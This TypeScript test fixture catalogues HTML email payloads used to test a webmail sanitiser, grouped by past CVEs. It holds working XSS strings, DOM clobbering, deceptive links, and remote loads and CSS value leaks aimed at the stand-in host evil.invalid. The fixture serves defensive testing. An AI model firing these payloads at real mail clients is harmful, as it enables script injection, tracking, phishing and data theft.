/** Ways in which webmail was broken before, one case or more for each. `EVIL` is asked for nothing, ever. */
export const EVIL = "https://evil.invalid";

/** What runs anything says so here. */
export const MARK = "alert(1)";

export type HtmlCase = { name: string; html: string };

const each = (name: string, ...htmls: string[]): HtmlCase[] =>
  htmls.map((html, i) => ({ name: `${name} ${i + 1}`, html }));

const PIXEL = "data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7";

export const HTML_CASES: readonly HtmlCase[] = [
  ...each(
    "tags opened again after sanitising (CVE-2024-42009)",
    `<body title="bgcolor=foo" name="bar style=animation-name:progress-bar-stripes onanimationstart=${MARK} foo=bar">x</body>`,
    `<p title="</p><img src=x onerror=${MARK}>">x</p>`,
  ),
  ...each(
    "namespaces (Proton Mail)",
    `<svg><style><img src=x onerror=${MARK}></style></svg>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${MARK}&gt;">`,
    `<svg><foreignObject><p><iframe srcdoc="<script>parent.${MARK}</script>"></p></foreignObject></svg>`,
    `<svg><a xlink:href="javascript:${MARK}"><text y=20>x</text></a></svg>`,
  ),
  ...each(
    "broken markup that browsers mend (CVE-2024-45800)",
    `<noscript><p title="</noscript><img src=x onerror=${MARK}>">`,
    `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${MARK} src>">`,
    `<table><caption><svg><title></caption><style><img src=x onerror=${MARK}></style>`,
    `<a href="x"><table><tr><td><a href="javascript:${MARK}">x`,
  ),
  ...each(
    "raw text (CVE-2026-0540)",
    ...[
      "noscript",
      "xmp",
      "noembed",
      "noframes",
      "iframe",
      "textarea",
      "title",
      "style",
      "script",
    ].map((name) => `<${name}><a title="</${name}><img src=x onerror=${MARK}>"></${name}>`),
    `<plaintext></plaintext><img src=x onerror=${MARK}>`,
  ),
  ...each(
    "linkifiers (CVE-2023-43770, CVE-2026-54433, CVE-2026-3455)",
    `a@a.co?]<img/src="x"/onerror=${MARK}>`,
    `[<script>${MARK}</script>] https://x.example/"onmouseover=${MARK}//`,
    `https://x.example/'"><svg/onload=${MARK}>`,
    `&lt;img src=x onerror=${MARK}&gt; https://x.example/&quot;onclick=${MARK}`,
  ),
  ...each(
    "attachments and documents shown in place (CVE-2024-42008)",
    `<object data="data:text/html,<script>${MARK}</script>"></object><embed src="data:image/svg+xml,<svg onload=${MARK}>">`,
    `<iframe src="data:text/html,<script>parent.${MARK}</script>"></iframe>`,
    `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
    `<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">`,
  ),
  ...each(
    "events of harmless elements (CVE-2025-27915, CVE-2022-24682)",
    `<details open ontoggle=${MARK}>x</details>`,
    `<input autofocus onfocus=${MARK}><select autofocus onfocus=${MARK}></select>`,
    `<video><source onerror=${MARK}></video><audio src=x onerror=${MARK}>`,
    `<marquee onstart=${MARK}>x</marquee><dialog open onclose=${MARK}>x</dialog>`,
    `<div popover id=p onbeforetoggle=${MARK}>x</div><button popovertarget=p>y</button>`,
    `<p style="animation:x 1s" onanimationstart=${MARK} ontransitionend=${MARK} onpointerenter=${MARK}>x</p>`,
  ),
  ...each(
    "tags and attributes mixed up (CVE-2025-30349, CVE-2022-29360)",
    `<img src="x"onerror=${MARK}>`,
    `<img/src=x/onerror=${MARK}/>`,
    `<<img src=x onerror=${MARK}>`,
    `<img src=x onerror\u0000=${MARK}><img src=x on\nerror=${MARK}>`,
    `<a href="jav&#x09;ascript:${MARK}">x</a><a href=" javascript:${MARK}">y</a><a href="java\u0000script:${MARK}">z</a>`,
    `<a href="vbscript:x">x</a><a href="data:text/html,<script>${MARK}</script>">y</a><a href="blob:https://x/y">z</a>`,
  ),
  ...each(
    "remote content (CVE-2026-25916 and its kin)",
    `<img src="${EVIL}/1.png"><img srcset="${EVIL}/2.png 2x"><picture><source srcset="${EVIL}/3.png"><img src="${EVIL}/4.png"></picture>`,
    `<svg><image href="${EVIL}/5.png"/><feImage href="${EVIL}/6.svg"/><use href="${EVIL}/7.svg#x"/></svg>`,
    `<body background="${EVIL}/8.png"><table background="${EVIL}/9.png"><tr><td background="${EVIL}/10.png">x`,
    `<p style="background:url(${EVIL}/11.png)">x</p><p style="--x:url(${EVIL}/12.png);background:var(--x)">y</p>`,
    `<style>@import url(${EVIL}/13.css);p{background:url(${EVIL}/14.png)}</style><link rel=stylesheet href="${EVIL}/15.css">`,
    `<link rel=prefetch href="${EVIL}/16"><link rel=dns-prefetch href="//evil.invalid"><link rel=preconnect href="${EVIL}">`,
    `<video poster="${EVIL}/17.png" src="${EVIL}/18.mp4"></video><audio src="${EVIL}/19.ogg" autoplay></audio>`,
    `<object data="${EVIL}/20"></object><embed src="${EVIL}/21"><iframe src="${EVIL}/22"></iframe><frame src="${EVIL}/23">`,
    `<meta http-equiv=refresh content="0;url=${EVIL}/24"><base href="${EVIL}/"><img src="25.png">`,
    `<input type=image src="${EVIL}/26.png"><bgsound src="${EVIL}/27.wav"><image src="${EVIL}/28.png">`,
    `<img src="//evil.invalid/29.png"><img src="/api/30"><img src="31.png"><img lowsrc="${EVIL}/32" dynsrc="${EVIL}/33">`,
    `<svg><animate attributeName=style values="background:url(${EVIL}/34)"></svg><a ping="${EVIL}/35" href="${EVIL}/36">x</a>`,
  ),
  ...each(
    "style that reaches out or over (CVE-2025-68460, Tuta CVE-2024-23330)",
    `<div style="position:fixed !important;inset:0;z-index:99999;background:#fff">Sign in again</div>`,
    `<style>input[value^=a]{background:url(${EVIL}/a)} *{display:none}</style><p class="reader" id="app" name="body">x</p>`,
    `<p style="font-size:0;color:#fff;opacity:0">hidden words</p>`,
    `<table width="99999" height="99999"><tr><td colspan="1000" rowspan="65534" height="100000">x</td></tr></table>`,
  ),
  ...each(
    "text inside of handlers (Movim)",
    `');${MARK};//`,
    `");${MARK};//`,
    `\${${MARK}}{{constructor.constructor('${MARK}')()}}`,
    `</script><script>${MARK}</script>`,
  ),
  ...each(
    "forms and clobbered names",
    `<form action="${EVIL}"><input name=attributes><input name=nodeName><button formaction="javascript:${MARK}">x</button></form>`,
    `<form id=x></form><button form=x formaction="${EVIL}">Send</button><textarea name=password></textarea>`,
    `<img name=body><img name=createElement><a id=location href="${EVIL}"></a>`,
  ),
  ...each(
    "links that deceive",
    `<a href="https://evil.invalid">https://paypal.com</a><a href="https://paypal.com@evil.invalid/">paypal.com</a>`,
    `<a href="https://evil.invalid" title="https://paypal.com">your bank</a>`,
    `<a href="https://evil.invalid/\u202Egpj.exe">\u202Ephoto</a>`,
    `<a href="//evil.invalid">x</a><a href="/settings">y</a><a href="#/to/a@b?body=x">z</a><a href="http:evil.invalid">w</a>`,
    `<map name=m><area href="${EVIL}" shape=default></map><img usemap=#m src="${PIXEL}">`,
  ),
];
